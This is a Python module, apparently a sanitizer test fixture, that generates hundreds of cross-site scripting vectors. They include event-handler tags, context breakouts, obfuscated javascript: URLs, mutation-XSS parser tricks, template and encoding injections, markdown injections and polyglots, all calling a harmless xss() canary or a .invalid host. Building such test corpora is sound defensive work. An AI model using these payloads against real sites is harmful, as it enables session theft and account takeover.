"""Content that wants to run: made here, of elements × handlers × ways to write them × places to break out of, and by hand.

Each calls `xss()`, which a page of the test plants, or asks another host; some need somebody to follow a link. Nothing is copied
from a list of somebody else's.
"""

from collections.abc import Iterator

CALL = "xss()"
ELSEWHERE = "https://canary.invalid"

# Elements that run their handler by themselves.
_ELEMENTS = (
    ("img src=x", "onerror"), ("image src=x", "onerror"), ("video src=x", "onerror"), ("audio src=x", "onerror"), ("video><source src=x", "onerror"),
    ("svg", "onload"), ("body", "onload"), ("iframe src=about:blank", "onload"), ("object data=x", "onerror"), ("embed src=x", "onerror"),
    ("script src=x", "onerror"), ("link rel=stylesheet href=x", "onerror"), ("style", "onload"), ("details open", "ontoggle"),
    ("input autofocus", "onfocus"), ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"), ("button autofocus", "onfocus"),
    ("a href=x autofocus tabindex=1", "onfocus"), ("div contenteditable autofocus", "onfocus"), ("math><mi tabindex=1 autofocus", "onfocus"),
    ("svg><animate attributeName=x dur=1s", "onbegin"), ("svg><set attributeName=x", "onbegin"), ("svg><image href=x", "onerror"),
    ("input type=image src=x", "onerror"), ("marquee", "onstart"), ("frameset", "onload"), ("x tabindex=1 autofocus", "onfocus"),
    ("video controls autoplay src=x", "onloadstart"), ("picture><img srcset=x", "onerror"),
)  # fmt: skip

# What may stand before, so that what follows is not text any more.
_BREAKOUTS = (
    '">', "'>", "`>", "-->", "</textarea>", "</title>", "</style>", "</script>", "</noscript>", "]]>", "</svg>", "</select>", "<!--><", "</template>", '" x="', "' x='",
)  # fmt: skip

_ADDRESSES = (
    "javascript:xss()", "JaVaScRiPt:xss()", "java\tscript:xss()", "java\nscript:xss()", "\x01javascript:xss()", " javascript:xss()", "javascript&colon;xss()",
    "&#106;avascript:xss()", "&#x6A;avascript:xss()", "&#0000106avascript:xss()", "javascript:%78ss()", "javascript://%0Axss()", "javascript:/*--></title>*/xss()",
    "javascript:window['x'+'ss']()", "vbscript:xss()", "data:text/html,<script>xss()</script>", "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='xss()'/>", "blob:javascript:xss()", "feed:javascript:xss()", "view-source:javascript:xss()",
    "\u2028javascript:xss()", "ｊavascript:xss()", "jav\u00adascript:xss()",
)  # fmt: skip

# Parsers that disagree about where one language ends and the next begins.
_MUTATIONS = (
    "<svg></p><style><a id=\"</style><img src=1 onerror=xss()>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=xss()&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss()>",
    "<noscript><p title=\"</noscript><img src=x onerror=xss()>\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=xss()></style></annotation-xml></math>",
    "<svg><foreignObject><div><img src=x onerror=xss()></div></foreignObject></svg>",
    "<svg><title><![CDATA[<img src=x onerror=xss()>]]></title></svg>",
    "<svg><desc><style><img src=x onerror=xss()></style></desc></svg>",
    "<template><img src=x onerror=xss()></template><script>document.body.append(document.querySelector('template').content)</script>",
    "<select><style></select><img src=x onerror=xss()></style></select>",
    "<table><td background=javascript:xss()><svg onload=xss()></table>",
    "<xmp><img title=\"</xmp><img src=x onerror=xss()>\">",
    "<listing>&lt;img src=x onerror=xss()&gt;</listing>",
    "<svg><a xlink:href=\"javascript:xss()\"><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='xss()'/></svg>#x\"/></svg>",
    "<svg><script>xss()</script></svg>", "<svg><script href=data:,xss() />", "<svg><script>&#120;ss()</script>",
    "<math href=\"javascript:xss()\">x</math>", "<math><maction actiontype=statusline xlink:href=\"javascript:xss()\">x</maction></math>",
    "<iframe srcdoc=\"<script>xss()</script>\"></iframe>", "<iframe srcdoc=\"&lt;img src=x onerror=xss()&gt;\"></iframe>", "<iframe src=javascript:xss()></iframe>",
    "<object data=javascript:xss()></object>", "<object data=\"data:text/html,<script>xss()</script>\"></object>", "<embed src=javascript:xss()>",
    "<form action=javascript:xss()><button autofocus onfocus=this.click()>x</button></form>",
    "<button form=f formaction=javascript:xss() autofocus onfocus=this.click()>x</button><form id=f></form>",
    "<script>xss()</script>", "<SCRIPT>xss()</SCRIPT>", "<script\n>xss()</script\n>", "<script type=module>xss()</script>", "<script src=data:,xss()></script>",
    "<<script>xss()//<</script>", "<scr<script>ipt>xss()</scr</script>ipt>", "<script/x>xss()</script>", "<style>@keyframes x{}</style><b style=animation:x onanimationstart=xss()>",
    "<b style=\"animation:x 1s\" onanimationstart=xss()><style>@keyframes x{from{top:0}}</style>", "<meta http-equiv=refresh content=\"0;url=javascript:xss()\">",
    "<base href=javascript:/a/><a href=xss()>x</a>", "<input type=hidden oncontentvisibilityautostatechange=xss() style=content-visibility:auto>",
    "<div style=\"width:expression(xss())\">", "<dialog open onfocusin=xss()><input autofocus></dialog>", "<p popover id=p onbeforetoggle=xss()><button popovertarget=p autofocus onfocus=click()>x",
)  # fmt: skip

# What some layer might take for a program of its own.
_TEMPLATES = (
    "{{constructor.constructor('xss()')()}}", "${xss()}", "#{xss()}", "<%= xss() %>", "{@html '<img src=x onerror=xss()>'}", "{#if xss()}{/if}", "{xss()}", "[[xss()]]",
    "{{7*7}}{{xss()}}", "';xss();//", "\";xss();//", "`;xss();//", "\\';xss();//", "\\\";xss();//", "'-xss()-'", "\"-xss()-\"", "`-xss()-`", "${`${xss()}`}", "*/xss()/*", "\nxss()\n",
    "</script><script>xss()</script>", "\\u003cimg src=x onerror=xss()\\u003e", "\\x3cimg src=x onerror=xss()\\x3e", "%3Cimg%20src%3Dx%20onerror%3Dxss()%3E",
    "%253Cscript%253Exss()%253C/script%253E", "&lt;script&gt;xss()&lt;/script&gt;", "&amp;lt;script&amp;gt;xss()&amp;lt;/script&amp;gt;", "+ADw-script+AD4-xss()+ADw-/script+AD4-",
    "＜script＞xss()＜/script＞", "‹script›xss()‹/script›", "\u202e<script>xss()</script>\u202c", "\u2066<img src=x onerror=xss()>\u2069", "<\u200bimg src=x onerror=xss()>",
    "<img\u00a0src=x onerror=xss()>", "<ımg src=x onerror=xss()>", "<ſcript>xss()</ſcript>", "<img src=x onerror=\u2028xss()>", "\ufeff<script>xss()</script>",
    "<img src=x onerror=xss()\u0000>", "<img/\u000csrc=x\u000conerror=xss()>", "مرحبا <img src=x onerror=xss()> بكم", "\u202exss(); <svg onload=xss()>",
)  # fmt: skip

_MARKDOWN = (
    "[a](javascript:xss())", "[a](JavaScript:xss())", "[a](javascript&colon;xss())", "[a](javascript&#58;xss())", "[a](<javascript:xss()>)", "[a]( javascript:xss())",
    "[a][b]\n\n[b]: javascript:xss()", "![a](javascript:xss())", "<javascript:xss()>", "[a](data:text/html,<script>xss()</script>)",
    "[a](https://a.invalid\" onmouseover=\"xss())", "[a](https://a.invalid 'x\" autofocus onfocus=xss() y=\"')", "![a\" onerror=xss() b=\"](x)", "[![a](x\" onerror=\"xss())](x)",
    "`<img src=x onerror=xss()>`", "```\n</code></pre><img src=x onerror=xss()>\n```", "```x\" onload=xss() y=\"\nx\n```", "> <img src=x onerror=xss()>", "- <svg onload=xss()>",
    "| <img src=x onerror=xss()> | b |\n|--|--|\n| <svg onload=xss()> | 2 |", "# <img src=x onerror=xss()>", "<div>\n\n<script>xss()</script>\n\n</div>", "&lt;img src=x onerror=xss()&gt;",
    "\\<img src=x onerror=xss()>", "[a](java\\script:xss())", "[a](\\u006aavascript:xss())", "**<svg onload=xss()>**", "[<img src=x onerror=xss()>](https://a.invalid)", "[a](//canary.invalid/x)",
)  # fmt: skip

# What asks another host without running anything.
_REQUESTS = tuple(
    one.replace("@", ELSEWHERE)
    for one in (
        "<img src=@/a>", "<img srcset=@/a>", "<picture><source srcset=@/a><img></picture>", "<video poster=@/a></video>", "<audio src=@/a autoplay></audio>",
        "<link rel=stylesheet href=@/a>", "<link rel=preload as=image href=@/a>", "<link rel=prefetch href=@/a>", "<link rel=icon href=@/a>", "<style>@import '@/a';</style>",
        "<style>body{background:url(@/a)}</style>", "<div style=\"background:url(@/a)\">x</div>", "<table background=@/a><td>x</table>", "<body background=@/a>", "<input type=image src=@/a>",
        "<iframe src=@/a></iframe>", "<object data=@/a></object>", "<embed src=@/a>", "<script src=@/a></script>", "<meta http-equiv=refresh content=\"1;url=@/a\">",
        "<svg><image href=@/a /></svg>", "<svg><use href=@/a#x /></svg>", "<svg><filter><feImage href=@/a /></filter></svg>", "<track src=@/a>", "<video><source src=@/a></video>",
        "![a](@/a)", "![a][b]\n\n[b]: @/a", "<base href=@/><img src=a>", "<img src=//canary.invalid/a>", "<img src=\\\\canary.invalid\\a>",
    )
)  # fmt: skip

_POLYGLOTS = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onerror=xss() )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=xss()//>",
    "'\"--></style></script><svg onload=xss()>${xss()}{{xss()}}<!--",
    "\"'><img src=x onerror=xss()>[a](javascript:xss())`${xss()}`",
    "</textarea></title></script></style></noscript><svg/onload=xss()>//\"'`;xss();//",
    "x\" autofocus onfocus=xss() y='><img src=x onerror=xss()>",
)  # fmt: skip


def vectors() -> list[str]:
    """Every one, no two the same, in an order that does not change."""
    return list(dict.fromkeys(_made()))


def _made() -> Iterator[str]:
    for element, handler in _ELEMENTS:
        yield f"<{element} {handler}={CALL}>"
        yield f'<{element} {handler}="{CALL}">'.upper().replace("XSS()", CALL)
        yield (
            f"<{element} {handler}=&#120;&#115;&#115;&#40;&#41;>".replace(" ", "/")
            if "><" not in element
            else f"<{element}\n{handler}\t=\n{CALL}>"
        )
        yield f"<{element} {handler}='\\u0078ss()'"  # never closed
    for number, breakout in enumerate(_BREAKOUTS):
        for element, handler in (_ELEMENTS[number % 6], _ELEMENTS[6 + number % 9]):
            yield f"{breakout}<{element} {handler}={CALL}>"
    for address in _ADDRESSES:
        yield f'<a href="{address}">x</a>'
        yield f"[x]({address})"
        yield address
    yield from _MUTATIONS
    yield from _TEMPLATES
    yield from _MARKDOWN
    yield from _REQUESTS
    yield from _POLYGLOTS
